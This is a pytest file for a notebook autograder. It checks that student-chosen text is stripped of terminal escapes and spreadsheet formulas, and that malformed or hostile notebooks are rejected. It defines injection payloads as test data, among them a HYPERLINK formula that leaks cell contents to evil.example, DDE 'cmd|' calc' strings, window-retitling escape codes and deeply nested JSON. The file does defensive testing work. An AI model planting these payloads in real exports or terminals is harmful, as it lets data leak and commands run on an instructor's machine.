"""Untrusted text and unreadable notebooks, attacked as a determined student would (issue 10, items 5 and 6).

A student chooses exception names and messages, layer names, history keys, grade ids and every byte of the
notebook file. Here those choices carry terminal escapes (an OSC that retitles the instructor's window, a screen
clear, the one-byte C1 CSI), spreadsheet formulas, and JSON that breaks parsers (200,000 levels deep, invalid
UTF-8, lone surrogates, duplicated cell ids, cells that are not a list). Each must end as plain text, as a
neutralised cell, or as a `rejected` submission with a reason, never as an error of ours.

Everything here runs without bubblewrap, a kernel or TensorFlow: rejected notebooks never reach the sandbox.
"""

from __future__ import annotations

import copy
import csv
import json
import re
import subprocess
import sys

import nbformat
import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from autograder import gradebook
from autograder.cli import main, results_table
from autograder.errors import SubmissionRejected
from autograder.export import export
from autograder.notebooks import MAX_JSON_DEPTH, cell_errors, generate_release, read_submission, with_outputs
from autograder.results import BatchReport, CheckResult, SubmissionResult
from autograder.text import plain_text, spreadsheet_cell
from tests.conftest import submit, tiny_course

OSC_TITLE = "\x1b]0;pwned\x07"  # retitles the terminal window
CLEAR = "\x1b[2J\x1b[H"  # clears the screen
C1_CSI = "\x9b31m"  # the one-byte Control Sequence Introducer of C1: red text on terminals that honour it
OVERWRITE = "all checks passed\r"  # a carriage return: what follows overwrites the line
HOSTILE = f"{OSC_TITLE}{CLEAR}{C1_CSI}{OVERWRITE}boom\x00\x7f"
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"see feedback")', "+cmd|' /C calc'!A0", "-2+3+cmd|x",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # what must never leave dlgrade (newline and tab may)


def assert_plain(text: str) -> None:
    assert not CONTROL.search(text), f"a control character got through: {text!r}"


def assert_no_formula(text: str) -> None:
    assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), f"a formula got through: {text!r}"


# ------------------------------------------------------------------------------------------ the pure functions

@pytest.mark.parametrize("attack", [OSC_TITLE, CLEAR, C1_CSI, OVERWRITE, HOSTILE, "\x1bP+q\x1b\\", "\x90x\x9c"])
def test_plain_text_leaves_no_escape_sequence(attack):
    cleaned = plain_text(f"before{attack}after")
    assert_plain(cleaned)
    assert cleaned.startswith("before") and cleaned.endswith("after")


def test_plain_text_keeps_newlines_tabs_and_unicode_but_no_lone_surrogate():
    assert plain_text("line 1\n\tline 2 – ünïcödé ✓") == "line 1\n\tline 2 – ünïcödé ✓"
    assert plain_text("a\ud800b") == "a\ufffdb"  # a lone surrogate would make printing or writing UTF-8 raise
    plain_text("a\ud800b").encode("utf-8")


@pytest.mark.parametrize("formula", FORMULAS)
def test_spreadsheet_cells_that_start_like_a_formula_are_quoted(formula):
    cell = spreadsheet_cell(formula)
    assert cell.startswith("'") and cell.lstrip("'") == plain_text(formula)
    assert_plain(cell)


def test_spreadsheet_numbers_stay_numbers():
    assert [spreadsheet_cell(v) for v in (-2.5, 0, 3, True, None)] == [-2.5, 0, 3, True, None]
    assert spreadsheet_cell("alice") == "alice" and spreadsheet_cell("") == ""


# ------------------------------------------------------------------------------------------------ the terminal

def hostile_result(student: str = "mallory", *, status: str = "error") -> SubmissionResult:
    """What grading records for a notebook whose cells raise exceptions named and worded by the student."""
    check = CheckResult(name="add() on hidden inputs", cell="check_add", score=0.0, max_score=2.0, status="error",
                        output=f"the check could not run: ValueError: layer {OSC_TITLE}dense{C1_CSI} {FORMULAS[0]}")
    return SubmissionResult(student=student, assignment="tiny", score=0.0, max_score=2.0, status=status,
                            reason=f"errors while running: cell 2: {CLEAR}Exploit{C1_CSI}: {HOSTILE}\n{FORMULAS[0]}",
                            tests=(check,), grading_seconds=1.0)


def test_results_table_prints_no_escape_and_keeps_one_line_per_submission():
    table = results_table([hostile_result(f"eve{OSC_TITLE}"), hostile_result("bob")])
    assert_plain(table)
    assert len(table.splitlines()) == 3, table  # the header and a line each, whatever newlines a reason holds


def test_grade_command_shows_progress_and_results_as_plain_text(tmp_path, monkeypatch):
    """`dlgrade grade` prints each result as it comes (tqdm) and the table at the end: neither passes an escape."""
    import autograder.pipeline

    course = tiny_course(tmp_path)
    result = hostile_result(f"eve{OSC_TITLE}")

    def grade(*, on_start, on_result, jobs=0, **_):  # the CLI reads the default of jobs off the library
        on_start([result.student])
        on_result(result)
        return BatchReport(assignment="tiny", results=(result,))

    monkeypatch.setattr(autograder.pipeline, "grade", grade)
    run = CliRunner().invoke(main, ["grade", "tiny", "--course-dir", str(course.root)])
    assert run.exit_code == 0, run.output
    assert "Exploit" in run.output and "eve" in run.output
    assert_plain(run.output.replace("\r", ""))  # tqdm's own carriage returns redraw its bar; ours are gone
    assert "pwned" in run.output and OSC_TITLE not in run.output


def test_error_lines_quote_a_student_folder_as_plain_text(tmp_path):
    """An LMS names submission folders after the student's display name, which the student may choose: a damaged
    results.json under such a folder makes `dlgrade export` name its path in the error line, as plain text."""
    course = tiny_course(tmp_path)
    damaged = course.autograded / f"eve{OSC_TITLE}{C1_CSI}" / "tiny" / "results.json"
    damaged.parent.mkdir(parents=True)
    damaged.write_text("{")
    run = CliRunner().invoke(main, ["export", "--format", "gradescope", "-o", str(tmp_path / "out"),
                                    "--course-dir", str(course.root)])
    assert run.exit_code == 1 and "is not a dlgrade result" in run.output, run.output
    assert_plain(run.output)


# ------------------------------------------------------------------------------------------------- the exports

@pytest.fixture(scope="module")
def hostile_course(tmp_path_factory):
    """A graded tiny course whose students chose formulas and escapes: as ids (LMS user names), as names (the
    roster), and in the exception messages that became their reasons and check outputs."""
    from nbgrader.api import Gradebook

    course = tiny_course(tmp_path_factory.mktemp("course"))
    generate_release(course, "tiny")
    students = {"=cmd|' -c calc'!A0": "", "@SUM(1+1)": "", "bob": ""}
    with Gradebook(course.db_url) as book:
        book.update_or_create_student("bob", first_name=f"Bob{OSC_TITLE}", last_name=FORMULAS[0],
                                      email="+1@evil.example")
    for student in students:
        result = hostile_result(student, status="graded")
        gradebook.record(course, result)
        result.write(course.autograded / student / "tiny" / "results.json")
    return course


def spreadsheet_texts(rows) -> list[str]:
    return [value for row in rows for value in row if isinstance(value, str)]


@pytest.mark.parametrize("fmt", ["csv", "wide-csv", "canvas", "moodle"])
def test_csv_exports_neutralise_every_text_cell(hostile_course, fmt, tmp_path):
    target = tmp_path / f"{fmt}.csv"
    export(hostile_course, fmt=fmt, output=target)
    with target.open(newline="") as handle:
        header, *rows = list(csv.reader(handle))
    texts = spreadsheet_texts(rows)
    assert any(text.startswith("'=") or text.startswith("'@") for text in texts), texts  # the attack is there
    for text in texts:
        assert_plain(text.replace("\n", " "))
        assert_no_formula(text)
    frame = pd.read_csv(target)
    assert list(frame.columns) == header  # the header row is as LMS imports expect it
    if fmt == "csv":
        assert frame["score"].dtype.kind == "f" and frame["reason"].str.startswith("errors while running").all()


def test_the_export_on_standard_output_is_plain_too(hostile_course):
    text, _ = export(hostile_course, fmt="csv", output=None)
    assert_plain(text.replace("\n", " ").replace("\r", " "))
    assert OSC_TITLE not in text and C1_CSI not in text


def test_xlsx_export_holds_no_formula_and_no_control_character(hostile_course, tmp_path):
    """openpyxl writes a string that starts with `=` as a live formula, and refuses control characters."""
    target = tmp_path / "grades.xlsx"
    export(hostile_course, fmt="xlsx", output=target)
    sheet = openpyxl.load_workbook(target)["grades"]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells), [c.value for c in cells if c.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'=cmd|' -c calc'!A0" in texts and "'@SUM(1+1)" in texts
    for text in texts:
        assert_plain(text)
        assert_no_formula(text)
    assert any(isinstance(cell.value, float | int) for cell in cells), "scores stay numbers"


def test_gradescope_results_are_plain_text(hostile_course, tmp_path):
    export(hostile_course, fmt="gradescope", output=tmp_path / "gs")
    for path in (tmp_path / "gs").rglob("results.json"):
        data = json.loads(path.read_text())
        for text in [data["output"], *(test["output"] for test in data["tests"])]:
            assert_plain(text)


# ------------------------------------------------------------------------------- results from notebook output

def executed_with(*outputs, cell_metadata=None) -> dict:
    """An executed notebook as the sandbox hands it back: untrusted JSON, whatever its shape."""
    return {"cells": [{"cell_type": "code", "source": "add(1, 2)", "metadata": cell_metadata or {},
                       "outputs": list(outputs)}]}


def test_cell_errors_are_plain_text():
    executed = executed_with({"output_type": "error", "ename": f"Exploit{OSC_TITLE}", "evalue": HOSTILE,
                              "traceback": []},
                             cell_metadata={"nbgrader": {"grade_id": f"add{CLEAR}"}})
    (error,) = cell_errors(executed)
    assert_plain(error)
    assert error.startswith("cell 1 (add[2J[H): Exploit]0;pwned: ")


@pytest.mark.parametrize("executed", [
    {"cells": {"not": "a list"}},
    {"cells": ["not a cell", 3, None]},
    executed_with({"output_type": "error", "ename": [["deep"]], "evalue": {"x": 1}, "traceback": 7}),
    executed_with({"output_type": "stream", "name": ["stdout"], "text": [["nested"], 3]}),
    executed_with({"output_type": "stream", "text": json.loads("[" * 900 + "]" * 900)}),  # str() would recurse
    executed_with({"output_type": "display_data", "data": {"text/plain": {"x": 1}, "image/png": ["A"]}}),
    executed_with("not an output", {"output_type": "error"}),
], ids=["cells-dict", "cells-not-dicts", "error-fields", "stream-fields", "deep-text", "data-fields", "odd-outputs"])
def test_results_are_built_from_any_shape_of_executed_notebook(executed):
    """The sandbox's notebook is the student's to forge: reading messages from it never raises."""
    restored = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("add(1, 2)")])
    for error in cell_errors(executed):
        assert_plain(error)
    kept = with_outputs(restored, executed)
    nbformat.validate(kept)
    nbformat.writes(kept)


GRADER_FILE = f'''
import pytest

OSC_TITLE, CLEAR, C1_CSI, OVERWRITE = {OSC_TITLE!r}, {CLEAR!r}, {C1_CSI!r}, {OVERWRITE!r}


@pytest.mark.points(1, cell="check_add")
def test_failed():
    assert False, f"layer {{OSC_TITLE}}dense{{C1_CSI}} should be an LSTM"


@pytest.mark.points(1, cell="check_add")
def test_error():
    raise ValueError(f"history key {{CLEAR}}val_loss{{OVERWRITE}}")


@pytest.mark.points(1, cell="check_add")
def test_partial(credit):
    credit.fraction = 0.5
    credit.message = f"val_acc{{C1_CSI}} is 0.5"
    credit.layer_table([(0, "Dense", f"Dense named {{OSC_TITLE}}", False)])
'''


def test_check_messages_of_the_pytest_plugin_are_plain_text(tmp_path):
    """A grader quotes what it found (layer names, history keys, the student's exception): plain text only."""
    (tmp_path / "graders").mkdir()
    (tmp_path / "graders" / "test_hostile_messages.py").write_text(GRADER_FILE)
    results = tmp_path / "results.json"
    subprocess.run([sys.executable, "-m", "pytest", str(tmp_path / "graders"), "-p", "autograder.pytest_plugin",
                    "--assert=plain", "-q", "-p", "no:cacheprovider", "-c", "/dev/null", "--rootdir",
                    str(tmp_path / "graders"), f"--dlgrade-artifacts={tmp_path}", f"--dlgrade-results={results}"],
                   capture_output=True, check=False, timeout=120)
    checks = json.loads(results.read_text())
    assert len(checks) == 3
    for check in checks:
        assert_plain(json.dumps(check, ensure_ascii=False))
    assert {check["output"] for check in checks} >= {"layer ]0;pwneddense31m should be an LSTM",
                                                     "val_acc31m is 0.5"}


# ------------------------------------------------------------------------------------------ unreadable notebooks

def notebook_json(**changes) -> dict:
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1"), nbformat.v4.new_markdown_cell("x")])
    data = json.loads(nbformat.writes(notebook))
    data.update(changes)
    return data


def deep(levels: int) -> str:
    return "[" * levels + "]" * levels


def with_deep_metadata(levels: int) -> bytes:
    text = json.dumps(notebook_json())
    return text.replace('"metadata": {}', f'"metadata": {{"x": {deep(levels)}}}', 1).encode()


def with_deep_output(levels: int) -> bytes:
    data = notebook_json()
    data["cells"][0]["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                                    "data": {"application/json": "DEEP"}}]
    return json.dumps(data).replace('"DEEP"', deep(levels)).encode()


def cells_changed(change) -> bytes:
    data = notebook_json()
    change(data["cells"])
    return json.dumps(data).encode()


def _duplicate_ids(cells):
    cells[1]["id"] = cells[0]["id"]


UNREADABLE = {
    "200k-deep-metadata": (with_deep_metadata(200_000), "more than 100 levels deep"),
    "200k-deep-output": (with_deep_output(200_000), "more than 100 levels deep"),
    "900-deep-metadata": (with_deep_metadata(900), "more than 100 levels deep"),  # json.loads reads it; deepcopy not
    "invalid-utf8": (nbformat.writes(nbformat.v4.new_notebook()).encode().replace(b'"metadata"', b'"m\xff\xfe"'),
                     "not UTF-8"),
    "utf16": (nbformat.writes(nbformat.v4.new_notebook()).encode("utf-16"), "not UTF-8"),
    "huge-integer": (cells_changed(lambda cells: cells[0].update(execution_count="DIGITS")).replace(
        b'"DIGITS"', b"9" * 5000), "not valid JSON: Exceeds the limit"),
    "lone-surrogate": (json.dumps(notebook_json()).replace('"1"', '"\\ud800"').encode(), "lone surrogate"),
    "duplicated-ids": (cells_changed(_duplicate_ids), "cells 1 and 2 have the same id"),
    "missing-id": (cells_changed(lambda cells: cells[1].pop("id")), "cell 2: 'id' is a required property"),
    "cells-not-a-list": (json.dumps(notebook_json(cells={"0": {}})).encode(), "cells: should be an array"),
    "cells-not-dicts": (json.dumps(notebook_json(cells=[1, "x"])).encode(), "cell 1: should be an object"),
    "metadata-a-list": (cells_changed(lambda cells: cells[0].update(metadata=[])), "cell 1, metadata: should be an"),
    "notebook-metadata-text": (json.dumps(notebook_json(metadata="x")).encode(), "the notebook's metadata"),
    "nbgrader-metadata-text": (cells_changed(lambda cells: cells[0]["metadata"].update(nbgrader="x")),
                               "nbgrader metadata should be an object"),
    "unknown-cell-type": (cells_changed(lambda cells: cells[1].update(cell_type="exploit")), "cell 2"),
    "nbformat-3": (json.dumps({"nbformat": 3, "nbformat_minor": 0, "worksheets": []}).encode(), "format 3"),
    "nbformat-4.0-float": (json.dumps(notebook_json(nbformat=4.0)).encode(), "format 4.0, expected 4"),
    "nbformat-minor-text": (json.dumps(notebook_json(nbformat_minor="5")).encode(), "nbformat_minor"),
    "not-an-object": (b"[1, 2, 3]", "format JSON an array"),
    "huge-cell": (cells_changed(lambda cells: cells[0].update(source="x" * (2**20 + 1))), "characters"),
    "too-many-values": (json.dumps(notebook_json(metadata={"x": [0] * 1_000_001})).encode(), "1,000,000 values"),
}


@pytest.mark.parametrize(("content", "says"), UNREADABLE.values(), ids=UNREADABLE.keys())
def test_unreadable_notebooks_are_rejected_with_a_reason(tmp_path, content, says):
    path = tmp_path / "nb.ipynb"
    path.write_bytes(content)
    with pytest.raises(SubmissionRejected, match=re.escape(says)) as caught:
        read_submission(path)
    assert_plain(str(caught.value))
    assert len(str(caught.value)) < 500, "a reason quotes a little of the notebook, never all of it"


def test_a_notebook_just_within_the_limits_reads(tmp_path):
    path = tmp_path / "nb.ipynb"
    path.write_bytes(with_deep_metadata(MAX_JSON_DEPTH - 4))  # the notebook, its cells, a cell and its metadata
    notebook = read_submission(path)
    copy.deepcopy(notebook)
    nbformat.writes(notebook)


def test_a_rejection_quotes_the_notebook_as_plain_text(tmp_path):
    path = tmp_path / "nb.ipynb"
    path.write_bytes(cells_changed(lambda cells: cells[0].update(execution_count=HOSTILE * 1000)))
    with pytest.raises(SubmissionRejected, match="execution_count: should be a whole number or null") as caught:
        read_submission(path)
    assert_plain(str(caught.value))


# ------------------------------------------------------------------------------------- through the real pipeline

def _grade_id_list(notebook: dict) -> None:
    notebook["cells"][0]["metadata"]["nbgrader"]["grade_id"] = ["add"]  # unhashable where nbgrader wants a name


def _deep_cell_metadata(notebook: dict) -> None:
    notebook["cells"][0]["metadata"]["x"] = "DEEP"


def test_unreadable_submissions_are_rejected_by_the_pipeline_not_failed_on_our_side(tmp_path):
    """grade_one, as a worker or Slurm task runs it: each unreadable notebook is `rejected` with its reason, before
    any of it runs (so these tasks need no sandbox)."""
    from autograder.executors import Task
    from autograder.pipeline import grade_one
    from autograder.plan import plan_batch

    course = tiny_course(tmp_path)
    generate_release(course, "tiny")
    release = json.loads((course.releases / "tiny" / "tiny.ipynb").read_text())
    attacks = {"grade_id_list": _grade_id_list, "deep": _deep_cell_metadata}
    for student, attack in attacks.items():
        notebook = copy.deepcopy(release)
        attack(notebook)
        submit(course, student, "tiny", json.dumps(notebook).replace('"DEEP"', deep(200_000)).encode())
    submit(course, "bad_utf8", "tiny", b'{"nbformat": 4, "cells": ["\xff"]}')
    plan = plan_batch(course, "tiny", isolated=False)
    results = {student: grade_one(Task(plan=plan, student=student)) for student in [*attacks, "bad_utf8"]}
    for result in results.values():
        assert (result.status, result.failed_on_our_side, result.score) == ("rejected", False, 0.0), result
        assert result.reason and result.max_score == 2.0
        assert_plain(result.reason)
    assert "tampered with" in results["grade_id_list"].reason
    assert "more than 100 levels deep" in results["deep"].reason and "not UTF-8" in results["bad_utf8"].reason
    assert not (course.autograded / "deep" / "tiny" / "tiny.ipynb").exists(), "a rejected notebook never ran"


def test_history_keys_are_text_never_mathtext_that_breaks_the_course_feedback(tmp_path):
    """A history.json key such as `$^$` made matplotlib raise while drawing, which stopped `dlgrade feedback` for
    the whole course; control characters in keys reached the page's alt text."""
    from autograder.feedback import read_history, training_curves

    (tmp_path / "history.json").write_text(json.dumps({"$^$": [1.0, 0.5], "loss\x1b[2J": [2.0, 1.0],
                                                       "$\\frac{": [0.1, 0.2]}))
    history = read_history(tmp_path / "history.json")
    assert set(history) == {"$^$", "loss[2J", "$\\frac{"}
    figure = training_curves(history)
    assert figure.data_uri.startswith("data:image/png;base64,") and "\x1b" not in figure.alt
